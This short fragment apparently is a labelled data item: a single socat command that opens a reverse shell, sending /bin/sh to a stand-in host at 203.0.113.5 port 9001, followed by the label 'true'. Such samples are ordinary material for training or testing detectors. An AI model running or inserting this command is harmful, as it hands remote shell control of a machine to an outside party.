socat TCP:203.0.113.5:9001 EXEC:/bin/sh,nofork
true
